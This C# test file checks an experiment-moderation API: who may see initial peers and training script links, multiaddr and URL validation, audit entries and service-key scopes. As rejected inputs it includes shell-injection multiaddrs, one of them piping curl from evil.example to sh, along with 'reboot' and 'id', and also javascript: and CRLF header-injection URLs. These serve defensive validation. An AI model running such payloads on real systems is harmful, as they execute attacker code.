using System.Net;
using Microsoft.EntityFrameworkCore;
using Moderation.Contracts.Checkpoints;
using Moderation.Contracts.Experiments;
using Moderation.Contracts.InitialPeers;
using Moderation.Contracts.Join;
using Moderation.Tests.Infrastructure;

namespace Moderation.Tests.Experiments;

/// <summary>
/// The run's initial peers and training script link: typed by owners, published by auxiliary peers with a service key
/// (<c>initial_peers:write</c>), validated strictly, audited, and shown only to those who may join.
/// </summary>
public sealed class InitialPeersTests(AuthApiFactory api) : IClassFixture<AuthApiFactory>
{
    private const string PeerId = "QmTfeRJ2yafKRE1qpR5Ga3dJw2qTG7VPmXz5ooJ2K8AwBz";
    private const string Typed = "/dns4/peers.example.org/tcp/31337/p2p/" + PeerId;
    private static readonly string[] Published = ["/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId, "/ip6/2001:db8::7/udp/31337/quic/p2p/12D3KooWD3eckifWpRn9wQpMG9R9hX3sD158z7EqHWmweQAJU5SA"];

    private static string Url(ExperimentResponse e) => $"/api/v1/experiments/{e.OrganizationName}/{e.ModelName}";

    private async Task<string> KeyAsync(ExperimentResponse e, params string[] scopes) =>
        (await (await api.ClientFor("alice").PostWireAsync($"{Url(e)}/service-keys", new CreateServiceKeyRequest("aux", scopes)))
            .ReadAsync<ServiceKeyResponse>(HttpStatusCode.Created)).Secret!;

    [Fact]
    public async Task OnlyThoseWhoMayJoinSeeTheInitialPeersAndTheScriptInEveryAnswer()
    {
        var experiment = await api.CreateExperimentAsync(policy: AccessPolicy.Allowlist);
        await api.AllowlistAsync(experiment, "carol");
        await (await api.ClientFor("alice").PatchWireAsync(Url(experiment),
            new UpdateExperimentRequest(InitialPeers: [Typed], TrainingScriptUrl: "https://github.com/example/run"))).ReadAsync<ExperimentResponse>();
        var published = await (await api.ClientWithToken(await KeyAsync(experiment, "initial_peers:write"))
            .PutAsJsonWireAsync($"{Url(experiment)}/initial-peers", new PublishInitialPeersRequest(Published))).ReadAsync<PublishedInitialPeersResponse>();
        Assert.Equal([Typed, .. Published], published.InitialPeers);

        var carol = await (await api.ClientFor("carol").GetAsync(Url(experiment))).ReadAsync<ExperimentResponse>();
        Assert.Equal([Typed], carol.InitialPeers);
        Assert.Equal(Published, carol.PublishedInitialPeers);
        Assert.Equal("https://github.com/example/run", carol.TrainingScriptUrl);
        var native = await (await api.ClientFor("carol").PostWireAsync($"{Url(experiment)}/join", new JoinInput(PeerKeys.New()))).ReadAsync<JoinResponse>();
        Assert.Equal([Typed, .. Published], native.InitialPeers);
        var reference = await api.ClientFor("carol").PutAsJsonWireAsync(
            $"/api/experiments/join?organization_name={experiment.OrganizationName}&model_name={experiment.ModelName}",
            new ReferenceJoinRequest(new ReferenceJoinInput(PeerKeys.New())));
        Assert.Equal([Typed, .. Published], (await reference.ReadAsync<ReferenceJoinResponse>()).InitialPeers);

        // Not admitted: nothing of it, as with the coordinator; the list of experiments says the same.
        var mallory = await (await api.ClientFor("mallory").GetAsync(Url(experiment))).ReadAsync<ExperimentResponse>();
        Assert.Equal((false, 0, 0, null), (mallory.CoordinatorVisible, mallory.InitialPeers.Count, mallory.PublishedInitialPeers.Count, mallory.TrainingScriptUrl));
        var listed = await (await api.ClientFor("mallory").GetAsync("/api/v1/experiments?page_size=200")).Content.ReadAsStringAsync();
        Assert.DoesNotContain(PeerId, listed, StringComparison.Ordinal);
        Assert.DoesNotContain("github.com/example/run", listed, StringComparison.Ordinal);
        var refused = await api.ClientFor("mallory").PostWireAsync($"{Url(experiment)}/join", new JoinInput(PeerKeys.New()));
        Assert.DoesNotContain(PeerId, await refused.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/ip4/203.0.113.7/tcp/31337", "no /p2p/")]
    [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId + "\n", "U+000A")]
    [InlineData("/ip4/203.0.113.7 /tcp/31337/p2p/" + PeerId, "space")]
    [InlineData("/ip4/203.0.113.700/tcp/31337/p2p/" + PeerId, "not an IPv4 address")]
    [InlineData("/ip4/203.0.113.7/tcp/65536/p2p/" + PeerId, "not a port number")]
    [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/QmNotBase58OIl0", "not a libp2p peer id")]
    [InlineData("/unix/tmp/sock/p2p/" + PeerId, "'unix' is not a multiaddr protocol")]
    [InlineData("ip4/203.0.113.7/tcp/31337/p2p/" + PeerId, "must start with '/'")]
    [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId + "/", "must start with '/'")]
    [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId + "/ip4", "'ip4' has no value")]
    [InlineData("/dns4/" + "x" + "/tcp/1/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId, "longer than 256")]
    [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId + "\u00e9", "printable ASCII")]
    // Pasted into a shell by every admitted participant (the quick start's --initial_peers): nothing a shell would run.
    [InlineData("/ip6/fe80::1%$(curl${IFS}evil.example|sh)/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
    [InlineData("/ip6/fe80::1%`id`/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
    [InlineData("/ip6/fe80::1%eth0;reboot/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
    [InlineData("/ip6/[2001:db8::1]/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
    public async Task AMalformedMultiaddrIsRefusedNamingItsIndexAndNothingChanges(string multiaddr, string reason)
    {
        var experiment = await api.CreateExperimentAsync();
        var owner = await api.ClientFor("alice").PatchWireAsync(Url(experiment), new UpdateExperimentRequest(InitialPeers: [Typed, multiaddr]));
        var problem = await owner.AssertProblemAsync(HttpStatusCode.BadRequest);
        Assert.Contains("'initial_peers[1]'", problem.Detail(), StringComparison.Ordinal);
        Assert.Contains(reason, problem.Detail(), StringComparison.Ordinal);
        Assert.True(problem.GetProperty("errors").TryGetProperty("initial_peers", out _));
        var aux = await api.ClientWithToken(await KeyAsync(experiment, "initial_peers:write"))
            .PutAsJsonWireAsync($"{Url(experiment)}/initial-peers", new PublishInitialPeersRequest([multiaddr]));
        Assert.Contains("'multiaddrs[0]'", (await aux.AssertProblemAsync(HttpStatusCode.BadRequest)).Detail(), StringComparison.Ordinal);
        var stored = await api.QueryDbAsync(db => db.Experiments.AsNoTracking().SingleAsync(e => e.Id == experiment.Id));
        Assert.Equal((0, 0), (stored.InitialPeers.Count, stored.PublishedInitialPeers.Count));
    }

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("ftp://example.org/run")]
    [InlineData("https://user:secret@github.com/example/run")]
    [InlineData("/relative/path")]
    [InlineData("https://github.com/example/run\r\nSet-Cookie: x")]
    [InlineData("https://github.com/example/ run")]
    public async Task ATrainingScriptLinkMustBeAPlainHttpsOrHttpUrl(string url)
    {
        var experiment = await api.CreateExperimentAsync();
        var response = await api.ClientFor("alice").PatchWireAsync(Url(experiment), new UpdateExperimentRequest(TrainingScriptUrl: url));
        Assert.Contains("training_script_url", (await response.AssertProblemAsync(HttpStatusCode.BadRequest)).Detail(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task TooManyMultiaddrsAreRefused()
    {
        var experiment = await api.CreateExperimentAsync();
        var many = Enumerable.Range(1, 33).Select(i => $"/ip4/203.0.113.{i}/tcp/31337/p2p/{PeerId}").ToList();
        var response = await api.ClientFor("alice").PatchWireAsync(Url(experiment), new UpdateExperimentRequest(InitialPeers: many));
        Assert.Contains("at most 32", (await response.AssertProblemAsync(HttpStatusCode.BadRequest)).Detail(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task PublishingIsAuditedOnceARevokedKeysAddressesAreWithdrawnAndOtherScopesOrExperimentsAreRefused()
    {
        var experiment = await api.CreateExperimentAsync();
        var key = await KeyAsync(experiment, "initial_peers:write");
        var aux = api.ClientWithToken(key);
        for (var i = 0; i < 2; i++)
        {
            // An auxiliary peer publishes at every start; the same addresses again change and record nothing.
            await (await aux.PutAsJsonWireAsync($"{Url(experiment)}/initial-peers", new PublishInitialPeersRequest(Published))).ReadAsync<PublishedInitialPeersResponse>();
        }
        var audit = await api.QueryDbAsync(db => db.AuditEntries.AsNoTracking().Where(a => a.ExperimentId == experiment.Id && a.Action == "initial_peers.published").ToListAsync());
        var entry = Assert.Single(audit);
        Assert.Equal("service-key:aux", entry.Actor);
        Assert.Contains(Published[0], entry.After, StringComparison.Ordinal);

        await (await api.ClientFor("alice").PatchWireAsync(Url(experiment), new UpdateExperimentRequest(InitialPeers: [Typed]))).ReadAsync<ExperimentResponse>();
        var updated = await api.QueryDbAsync(db => db.AuditEntries.AsNoTracking().Where(a => a.ExperimentId == experiment.Id && a.Action == "experiment.updated").ToListAsync());
        Assert.Contains(Typed, Assert.Single(updated).After, StringComparison.Ordinal);

        var keyId = (await (await api.ClientFor("alice").GetAsync($"{Url(experiment)}/service-keys")).ReadAsync<List<ServiceKeyResponse>>()).Single().Id;
        Assert.Equal(HttpStatusCode.NoContent, (await api.ClientFor("alice").DeleteAsync($"{Url(experiment)}/service-keys/{keyId}")).StatusCode);
        var after = await (await api.ClientFor("alice").GetAsync(Url(experiment))).ReadAsync<ExperimentResponse>();
        Assert.Equal([Typed], after.InitialPeers);
        Assert.Empty(after.PublishedInitialPeers);

        var contributionsKey = api.ClientWithToken(await KeyAsync(experiment, "contributions:write"));
        await (await contributionsKey.PutAsJsonWireAsync($"{Url(experiment)}/initial-peers", new PublishInitialPeersRequest(Published)))
            .AssertProblemAsync(HttpStatusCode.Forbidden);
        var elsewhere = await api.CreateExperimentAsync();
        var otherKey = api.ClientWithToken(await KeyAsync(elsewhere, "initial_peers:write"));
        await (await otherKey.PutAsJsonWireAsync($"{Url(experiment)}/initial-peers", new PublishInitialPeersRequest(Published)))
            .AssertProblemAsync(HttpStatusCode.Forbidden);
        var missing = await aux.PutAsync($"{Url(experiment)}/initial-peers", new StringContent("{}", System.Text.Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.Unauthorized, missing.StatusCode); // the revoked key
        var noList = await otherKey.PutAsync($"{Url(elsewhere)}/initial-peers", new StringContent("{}", System.Text.Encoding.UTF8, "application/json"));
        Assert.Contains("'multiaddrs'", (await noList.AssertProblemAsync(HttpStatusCode.BadRequest)).Detail(), StringComparison.Ordinal);
    }
}
